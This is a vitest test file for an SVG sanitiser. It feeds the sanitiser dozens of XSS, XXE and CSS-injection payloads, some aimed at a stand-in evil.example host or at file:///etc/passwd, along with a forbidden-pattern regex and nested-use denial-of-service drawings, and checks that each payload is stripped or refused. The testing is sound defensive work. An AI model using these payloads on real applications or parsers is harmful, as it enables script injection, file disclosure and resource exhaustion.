import { describe, expect, test } from 'vitest';
import sharp from 'sharp';
import { cleanSvg } from './svg-content.ts';

const wrap = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" ${attributes}>${inside}<rect id="last" width="9" height="9"/></svg>`;
function clean(text: string | Buffer): string {
  const found = cleanSvg(Buffer.from(text));
  return typeof found === 'string' ? found : found.clean;
}
const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Nothing of this may be left. */
const forbidden =
  /script|javascript|alert|onload|onclick|onbegin|onerror|foreignobject|iframe|<html|<body|xhtml|http:\/\/evil|evil\.|\/\/evil|@import|expression|-moz-binding|behavior|entity|doctype|<!|<\?|base64,PHN2|text\/html|<set|<animate|handler|xml:base|xml-stylesheet|font-face|passwd/i;

const vectors: readonly (readonly [name: string, svg: string])[] = [
  ['script', wrap('<script>alert(1)</script>')],
  ['script with CDATA', wrap('<script><![CDATA[alert(1)]]></script>')],
  ['script from elsewhere', wrap('<script href="http://evil.example/a.js"/>')],
  ['script by xlink', wrap('<script xlink:href="//evil.example/a.js"></script>')],
  ['script with a prefix', wrap('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>')],
  ['script with another prefix', wrap('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')],
  ['script in capitals', wrap('<SCRIPT>alert(1)</SCRIPT>')],
  ['script with a line break', wrap('<script\n>alert(1)</script\n>')],
  ['script in a script', wrap('<scr<script>ipt>alert(1)</scr</script>ipt>')],
  ['script in a title', wrap('<title><script>alert(1)</script></title>')],
  ['script in a wrapper', wrap('<a><switch><script>alert(1)</script></switch></a>')],
  ['onload of the root', wrap('', 'onload="alert(1)"')],
  ['onclick', wrap('<rect onclick="alert(1)" width="9" height="9"/>')],
  ['onload with a slash', wrap('<g/onload=alert(1)//>')],
  ['handler in capitals', wrap('<rect ONLOAD="alert(1)" width="9" height="9"/>')],
  ['handler element', wrap('<handler type="application/ecmascript" ev:event="load">alert(1)</handler>')],
  ['link to a script', wrap('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>')],
  ['link to a script by xlink', wrap('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['link with entities', wrap('<a href="&#106;avascript:alert(1)"><text>x</text></a>')],
  ['link with a tab', wrap('<a href="java&#9;script:alert(1)"><text>x</text></a>')],
  [
    'foreign object',
    wrap(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.example"/></body></foreignObject>',
    ),
  ],
  ['foreign object in small letters', wrap('<foreignobject><img src="x" onerror="alert(1)"/></foreignobject>')],
  ['foreign element', wrap('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')],
  ['frame', wrap('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>')],
  ['embedded page', wrap('<embed src="http://evil.example"/><object data="http://evil.example"/>')],
  ['animation to a script', wrap('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>')],
  ['set to a script', wrap('<set attributeName="onmouseover" to="alert(1)"/>')],
  ['animation that begins', wrap('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['transform animation', wrap('<animateTransform onbegin="alert(1)" attributeName="transform"/>')],
  ['picture from elsewhere', wrap('<image href="http://evil.example/a.png" width="9" height="9"/>')],
  ['picture by xlink', wrap('<image xlink:href="//evil.example/a.png" width="9" height="9"/>')],
  ['picture from a file', wrap('<image href="file:///etc/passwd" width="9" height="9"/>')],
  [
    'drawing as a picture',
    wrap('<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" width="9" height="9"/>'),
  ],
  ['page as a picture', wrap('<image href="data:text/html;base64,PHNjcmlwdD4=" width="9" height="9"/>')],
  [
    'drawing that says it is a PNG',
    wrap('<image href="data:image/png;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" width="9" height="9"/>'),
  ],
  ['use from elsewhere', wrap('<use href="http://evil.example/a.svg#x"/>')],
  ['use of data', wrap('<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>')],
  ['fill from elsewhere', wrap('<rect fill="url(http://evil.example/a.svg#x)" width="9" height="9"/>')],
  ['fill in quotes', wrap('<rect fill="url(\'//evil.example/#x\')" width="9" height="9"/>')],
  ['filter from elsewhere', wrap('<rect filter="url(//evil.example/a.svg#f)" width="9" height="9"/>')],
  ['filter picture', wrap('<filter id="f"><feImage href="http://evil.example/a.png"/></filter>')],
  ['gradient from elsewhere', wrap('<linearGradient id="g" xlink:href="http://evil.example/a.svg#g"/>')],
  ['style import', wrap('<style>@import url(http://evil.example/a.css);</style>')],
  ['style import as text', wrap('<style>@import "http://evil.example/a.css"; rect{fill:red}</style>')],
  ['style import with an escape', wrap('<style>@\\69mport "http://evil.example/a.css";</style>')],
  ['style import behind a comment', wrap('<style>/**/@import/**/"http://evil.example/a.css";</style>')],
  ['style in CDATA', wrap('<style><![CDATA[@import "http://evil.example/a.css";]]></style>')],
  ['style that ends itself', wrap('<style><![CDATA[</style><script>alert(1)</script>]]></style>')],
  ['font of a style', wrap('<style>@font-face{font-family:a;src:url(http://evil.example/a.woff)}</style>')],
  ['picture of a style', wrap('<style>rect{fill:url(http://evil.example/a.svg#x)}</style>')],
  ['escaped picture of a style', wrap('<style>rect{fill:u\\72l(http://evil.example/a)}</style>')],
  ['set of pictures', wrap('<style>rect{mask:image-set("http://evil.example/a" 1x)}</style>')],
  ['expression', wrap('<rect style="width:expression(alert(1))"/>')],
  ['binding', wrap('<rect style="-moz-binding:url(http://evil.example/a.xml#x)"/>')],
  ['background of a style', wrap('<rect style="background:url(http://evil.example/a)" width="9" height="9"/>')],
  ['comment in a value', wrap('<rect style="fill:ur/**/l(http://evil.example)" width="9" height="9"/>')],
  ['style sheet of the document', `<?xml-stylesheet href="http://evil.example/a.xsl" type="text/xsl"?>${wrap('')}`],
  ['base of the document', wrap('<g xml:base="http://evil.example/"><use href="#last"/></g>')],
  ['entity from a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${wrap('<text>&x;</text>')}`],
  ['entity with a script', `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${wrap('<text>&x;</text>')}`],
  ['parameter entity', `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/a.dtd"> %p;]>${wrap('')}`],
  ['document type from elsewhere', `<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd">${wrap('')}`],
  ['document type inside', wrap('<!DOCTYPE html [<!ENTITY x "alert">]><g/>')],
  ['attribute that defines', wrap('<g><metadata><rdf:RDF xmlns:rdf="http://evil.example"/></metadata></g>')],
  ['cursor', wrap('<cursor xlink:href="http://evil.example/a.cur"/>')],
  ['audio and video', wrap('<audio src="http://evil.example/a"/><video onerror="alert(1)"/>')],
  ['second root', `${wrap('')}<svg><script>alert(1)</script></svg>`],
  ['text behind the root', `${wrap('')}<script>alert(1)</script>`],
  ['broken comment', wrap('<!-- --!><script>alert(1)</script> -->')],
  ['UTF-16', `\ufeff${wrap('<script>alert(1)</script>')}`],
];

describe('a clean drawing', () => {
  test.each(vectors)('%s', async (name, text) => {
    const found = clean(name === 'UTF-16' ? Buffer.from(text, 'utf16le') : text);
    expect(found).not.toMatch(forbidden);
    // What is no XML ends where it breaks.
    expect(found.includes('<rect id="last"')).toBe(name !== 'script in a script');
    expect((await sharp(Buffer.from(found)).metadata()).format).toBe('svg');
  });

  test('draws what it drew before', async () => {
    const drawing = `<?xml version="1.0" encoding="UTF-8"?>
      <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "a>b">]>
      <!-- Generator -->
      <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" width="200" height="100">
        <title>Crank &amp; chain &lt;M&gt;</title>
        <style><![CDATA[ /* programs */ .a{fill:#c00;stroke:rgb(0, 0, 200)} .b , g > .c{opacity:.5;fill:url(#g)} ]]></style>
        <defs>
          <linearGradient id="g" gradientUnits="userSpaceOnUse" x1="0" x2="200"><stop stop-color="#0a0"/><stop offset="1" stop-color="#00f"/></linearGradient>
          <clipPath id="c"><circle cx="150" cy="50" r="40"/></clipPath>
          <symbol id="s" viewBox="0 0 10 10"><path d="M0 0h10v10z"/></symbol>
          <filter id="f"><feGaussianBlur stdDeviation="2"/></filter>
        </defs>
        <switch><foreignObject requiredExtensions="&ns;" width="1" height="1"/><g><rect class="a" width="50" height="50" transform="translate(5,5) rotate(10)"/></g><rect width="200" height="100"/></switch>
        <g><rect class="c" x="60" width="60" height="100"/></g>
        <a href="https://example.com"><use xlink:href="#s" x="100" width="40" height="40"/></a>
        <circle cx="150" cy="50" r="45" style="fill: url('#g'); clip-path:url(#c)" filter="url(#f)"/>
        <image width="20" height="20" y="70" xlink:href="data:image/png;base64,${png}"/>
      </svg>`;
    const found = clean(drawing);
    expect(found).toContain('<title>Crank &amp; chain &lt;M&gt;</title>');
    const pixels = (text: string) => sharp(Buffer.from(text)).raw().toBuffer();
    const [before, after] = [
      await pixels(drawing.replace(/<!DOCTYPE.*?\]>/s, '').replace('&ns;', 'a')),
      await pixels(found),
    ];
    expect(after.equals(before)).toBe(true);
    expect(clean(found)).toBe(found);
  });

  test('keeps a prefix of its elements out, and Latin-1', () => {
    const prefixed = '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="9" height="9"><svg:g id="a"/></svg:svg>';
    expect(clean(prefixed)).toContain('<svg xmlns="http://www.w3.org/2000/svg"');
    expect(clean(prefixed)).toContain('<g id="a"></g>');
    const latin = Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${wrap('<text>Höhe</text>')}`, 'latin1');
    expect(clean(latin)).toContain('Höhe');
  });
});

describe('a refused drawing', () => {
  const doubled = (depth: number): string =>
    Array.from({ length: depth }, (_, at) =>
      at === 0
        ? '<g id="n0"><path d="M0 0h9"/></g>'
        : `<g id="n${at}"><use href="#n${at - 1}"/><use href="#n${at - 1}"/></g>`,
    ).join('');
  test.each([
    ['no drawing', '<html><svg/></html>', 'attachment_damaged'],
    ['nothing', '   ', 'attachment_damaged'],
    ['half a file', wrap('<g><path d="M0 0"/></g>').slice(0, -30), 'attachment_damaged'],
    ['bytes of no encoding', Buffer.from([0x3c, 0x73, 0x76, 0x67, 0x3e, 0xc3, 0x28]), 'attachment_damaged'],
    ['a billion uses', wrap(doubled(30)), 'attachment_drawing'],
    ['uses in a circle', wrap('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), 'attachment_drawing'],
    ['use of itself', wrap('<g id="a"><g><use xlink:href="#a"/></g></g>'), 'attachment_drawing'],
    [
      'a long chain of uses',
      wrap(Array.from({ length: 5_000 }, (_, at) => `<g id="c${at}"><use href="#c${at + 1}"/></g>`).join('')),
      'attachment_drawing',
    ],
    ['a deep tree', wrap(`${'<g>'.repeat(300)}${'</g>'.repeat(300)}`), 'attachment_drawing'],
    ['millions of open elements', wrap('<g>'.repeat(3_000_000)), 'attachment_drawing'],
    ['very many elements', wrap('<path d="M0 0"/>'.repeat(110_000)), 'attachment_drawing'],
    [
      'very many filters',
      wrap(`<filter id="f">${'<feGaussianBlur stdDeviation="50"/>'.repeat(200)}</filter>`),
      'attachment_drawing',
    ],
  ] as const)('%s', (_name, drawing, code) => expect(clean(drawing)).toBe(code));

  test('symbols that are used often, but not too often, are drawn', () => {
    expect(clean(wrap(doubled(10)))).toContain('<use href="#n8">');
  });
});
